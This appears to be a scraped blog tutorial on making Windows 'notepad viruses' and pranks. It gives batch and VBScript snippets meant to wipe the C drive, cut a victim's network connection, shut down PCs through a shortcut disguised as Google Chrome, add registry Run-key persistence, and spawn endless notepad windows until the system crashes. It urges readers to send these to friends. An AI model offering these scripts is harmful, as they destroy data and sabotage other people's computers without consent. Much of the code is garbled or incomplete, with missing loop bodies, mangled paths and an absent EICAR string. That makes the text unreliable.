Breaking News

How To Create Computer Virus In One Minute

How To Create Computer Virus In One Minute

Many of you will think this will require alot of programming which is not the case. Just follow the steps below and create yourself a virus within a minute.

1. Creating a Dangerous Virus

Step 1. First of all, in your Windows OS, open the notepad.Creating a Dangerous Virus
Step 2. Now copy and paste the below code in your notepad screen.
@Echo off
Del C: *.* |y
Creating a Dangerous Virus
Step 3. Now save this file as virus.bat (you can select any of random name but .bat after that must bethere).
Creating a Dangerous Virus
Now running the file will delete the C drive completely, and the operating system of the respective computer will get corrupted.
Note: This method is only for knowledge purpose. Don’t try this on your computer as it will completely format your C drive.

2. Creating a Harmless Cdrom Virus

Open Notepad and Paste the following code into it and save it as CD-ROM.vbs or anything *.vbs
Set oWMP = CreateObject(“WMPlayer.OCX.7”)
Set colCDROMs = oWMP.cdromCollection
if colCDROMs.Count >= 1 then
For i = 0 to colCDROMs.Count – 1
For i = 0 to colCDROMs.Count – 1
End If
wscript.sleep 5000
Creating a Harmless Cdrom Virus
When you double click on this file, you will be amazed at what this simple, harmless virus can do. Your CD/DVD drives will get continuously ejected.To stop this virus, you need to open Task Manager and select process tab and end the wscript.exe file.

3. Create a Virus To Test Your Antivirus

Open notepad and paste the given code and simply save the file as “EICAR.COM”
Create a Virus To Test Your Antivirus
If you have an active antivirus, then your antivirus program will simply remove this file in no-time. This is the harmless virus that is used to check the security level of your antivirus.

4. Virus To Stop Someone’s Internet Access

This is a harmless virus and it will not destroy your PC. You can use this trick to prank your friends. This virus stops anyone’s internet access. You need to type
the following code in the notepad.
@Echo off
Ipconfig /release
Stop Someone's Internet Access
Now Save the file as a .bat format like internet.bat and sent it to your friends.  The IP address will be lost, and therefore they won’t be able to fix it.
Well, if you want to fix it. Simply type in IPconfig /renew

5. Creating a Matrix Type screen

Well, it’s not a virus. It is just a simple notepad trick that will let you see the string of green characters appearing randomly. It has nothing to do with your computer registry, batch, etc. You can use this trick to scare your friend because the screen looks like a virus affected.
Simply open Notepad and type the following code into it.@echo off
color 02
echo %random% %random% %random%%random% %random% %random% %random% %random% %random% %random%
goto start
 Matrix Type screen
Now save the file asMatrix.bat, and click on it and the show begins.

6. Shutdown virus

You can also create a virus that can shut down computers. Well, this virus is harmless but can cause data loss due to sudden shutdown. Here’s how you can make a shutdown virus to pull up a prank with your friends.
Step 1. First of all, right click on your desktop and then choose the option “Create Shortcut”
 Shutdown virus
Step 2. Now in the pop-up window type in -s -t 60 -c “Virus Detection. The computer is shutting down.” Instead of 60, you can put what value you want. It represents the time in seconds.
 Shutdown virusStep 3. Then click on the Next button and type chrome. Or whatever you want.
 Shutdown virus
Step 4. Then you need to change the icon of the shortcut, choose the icon of Google Chrome.
 Shutdown virus
Yourvirus will look like Google Chrome. You can carry this file in your Pendrive and can shut down your friends’ computer.

Few Other Notepad Virus Codes

Here are few other source codes to create a notepad virus on Windows computer. However, these viruses are dangerous and can destroy your computer. Therefore, don’t use this virus for evil purposes.
Note: The damages caused by these viruses are irreversible

#1 Disable Internet Permanently

The below code will disable anyone’s internet connectivity PERMANENTLY.
echo @echo off>c:windowswimn32.bat
echo break off>c:windowswimn32.bat echo
echo end>c:windowswimn32.batreg add
hkey_local_machinesoftwaremicrosoftwindowscurrentversionrun /vWINDOWsAPI /t reg_sz /d c:windowswimn32.bat /freg add
hkey_current_usersoftwaremicrosoftwindowscurrentversionrun /v CONTROLexit /t reg_sz /dc:windowswimn32.bat /fecho You Have Been HACKED!

#2 Endless Notepads

The below code will pop up endless notepads until the computer freezes and crashes!
@ECHO off
START %SystemRoot%\system32\notepad.exe
GOTO top

#3 Endless Enter

The below code will make the enter button pressed continuously
Set wshShell = wscript.CreateObject(”WScript.Shell”)
wscript.sleep 100
wshshell.sendkeys “~(enter)”
By these methods, you can easily create harmful and harmless viruses andtarget your friends. If you have some more tricks like this, you can share with us inthe comment section below.
Post a Comment